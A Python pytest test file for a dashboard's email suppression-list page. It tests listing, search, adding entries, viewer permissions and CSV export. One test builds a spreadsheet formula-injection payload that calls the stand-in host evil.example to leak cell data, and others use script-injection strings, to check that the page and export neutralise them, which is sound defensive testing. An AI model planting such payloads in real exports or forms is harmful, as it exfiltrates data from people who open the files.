"""Who is never written to again, as people look at it, add to it and take it elsewhere."""

import csv
import re
from html import unescape
from io import StringIO

import pytest

from dashboard.pages.suppressions import cell
from tests.dashboard.folders import HOSTILE, be_patient
from tests.makers import IDA, enrolled, pending, people


@pytest.fixture(autouse=True)
def _patience(monkeypatch):
    be_patient(monkeypatch)


def _suppress(store, clock, *whom, why="asked by phone"):
    with store.transaction(clock.now(), "a test") as ledger:
        for each in whom:
            ledger.inbound.suppress(each, why)


def _plain(html):
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())


def _listed(page):
    return re.findall(r'<bdi dir="ltr" class="stranger">([^<]+@?[^<]*)</bdi>', page.partition("<tbody>")[2])


def test_everybody_is_listed_by_name_with_why_and_since_when(as_viewer, store, clock):
    _suppress(store, clock, "zoe@acme.example", "quarry.example", "ann@acme.example")

    page = as_viewer.get("/suppressions").text

    assert _listed(page) == ["ann@acme.example", "quarry.example", "zoe@acme.example"]
    assert "everybody there" in page
    assert "asked by phone" in page
    assert "Mon 2 Mar 2026, 09:00 UTC" in page


def test_where_there_is_nobody_the_page_says_how_they_come_there(as_viewer):
    assert "Nobody is on the list" in as_viewer.get("/suppressions").text


def test_the_list_goes_on_where_it_ended(as_viewer, store, clock):
    names = [f"person{number:03}@acme.example" for number in range(250)]
    _suppress(store, clock, *reversed(names))

    seen, path = [], "/suppressions?q=person"
    while path:
        page = as_viewer.get(path).text
        seen += _listed(page)
        onward = re.search(r'href="([^"]+)" rel="next"', page)
        path = unescape(onward[1]) if onward else ""

    assert seen == names


@pytest.mark.parametrize(
    ("q", "found"),
    [
        ("ida", ["ida@nordic.example"]),
        ("IDA@NORDIC", ["ida@nordic.example"]),
        ("i_a", []),
        ("%", []),
        ("@quarry", ["quarry.example"]),
        ("x\0y", []),
        ("\U0010ffff", []),
        ("'", []),
    ],
)
def test_who_begins_so_is_found(as_viewer, store, clock, q, found):
    _suppress(store, clock, "ida@nordic.example", "ivo@nordic.example", "quarry.example")

    answer = as_viewer.get("/suppressions", params={"q": q})

    assert answer.status_code == 200
    assert _listed(answer.text) == found


def test_an_address_is_found_by_its_domain(as_viewer, store, clock):
    _suppress(store, clock, "quarry.example", why="a competitor")

    page = as_viewer.get("/suppressions", params={"q": "per@quarry.example"}).text

    assert "because of its domain" in page
    assert "a competitor" in page


def test_whoever_is_added_is_stopped_and_a_receipt_says_so(as_reviewer, store, clock):
    enrolled(store, clock.now())

    answer = as_reviewer.post_form("/suppressions", whom="nordic.example", why="asked by phone")

    assert answer.headers["location"] == "/suppressions"
    told = _plain(as_reviewer.get("/suppressions").text)
    assert (
        "nordic.example is never written to again, since Mon 2 Mar 2026, 09:00 UTC. 1 person stopped, 1 letter cancelled"
        in told
    )
    assert pending(store, clock.now()) == []
    assert [one["stop_reason"] for one in people(store, clock.now())] == ["suppressed"]
    with store.database.connect() as db:
        lines = db.exec_driver_sql("SELECT actor, detail FROM audit WHERE what = 'suppression: add'").all()
    assert [tuple(line) for line in lines] == [("reviewer@acme.example", "nordic.example asked by phone")]


@pytest.mark.parametrize(
    ("whom", "why"),
    [
        ("", "x"),
        ("no address@", "x"),
        ("a b", "x"),
        (IDA, ""),
        (IDA, "x" * 501),
        ("x" * 400, "x"),
        (HOSTILE, "x"),
    ],
)
def test_what_is_nobody_is_refused_kindly_and_what_was_written_stays(as_reviewer, store, clock, whom, why):
    answer = as_reviewer.post_form("/suppressions", whom=whom, why=why)

    assert answer.status_code == 422
    assert 'role="alert"' in answer.text
    assert "<script>alert" not in answer.text
    if whom:
        assert whom.strip() in unescape(answer.text)
    with store.reading(clock.now()) as ledger:
        assert list(ledger.inbound.every_suppression()) == []


def test_a_viewer_adds_nobody(as_viewer, store, clock):
    assert as_viewer.post_form("/suppressions", whom=IDA, why="x").status_code == 403
    assert '<h2 id="add-heading"' not in as_viewer.get("/suppressions").text
    with store.reading(clock.now()) as ledger:
        assert list(ledger.inbound.every_suppression()) == []


def test_strangers_words_are_text(as_viewer, store, clock):
    _suppress(store, clock, "evil@acme.example", why=HOSTILE)

    page = as_viewer.get("/suppressions").text

    assert "<script>alert" not in page
    assert "<img" not in page


# --- elsewhere ---


def test_the_whole_list_can_be_taken_along(as_viewer, store, clock):
    names = [f"person{number:04}@acme.example" for number in range(1205)]
    _suppress(store, clock, *names)

    answer = as_viewer.get("/suppressions.csv")

    rows = list(csv.reader(StringIO(answer.text)))
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="suppressions.csv"'
    assert rows[0] == ["address", "reason", "since"]
    assert [row[0] for row in rows[1:]] == names
    assert rows[1][2] == "2026-03-02T09:00:00Z"
    assert all(line.startswith('"') and line.endswith('"') for line in answer.text.split("\r\n")[:-1])


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_what_a_table_program_would_do_is_only_words(as_viewer, store, clock, begin):
    why = f'{begin}HYPERLINK("http://evil.example/?"&A1,"click"),2'
    _suppress(store, clock, "ann@acme.example", f"{begin}x@acme.example", why=why)

    rows = list(csv.reader(StringIO(as_viewer.get("/suppressions.csv").text, newline="")))

    assert {row[1] for row in rows[1:]} == {f"'{why}"}
    assert all(value[:1] not in ("=", "+", "-", "@", "\t", "\r") for row in rows for value in row)


def test_ordinary_words_stay_as_they_are():
    assert cell("asked by phone, = no") == "asked by phone, = no"
    assert cell("") == ""


def test_nobody_takes_it_who_is_not_in(front, store, clock):
    _suppress(store, clock, IDA)

    answer = front.get("/suppressions.csv")

    assert answer.status_code == 303
    assert IDA not in answer.text
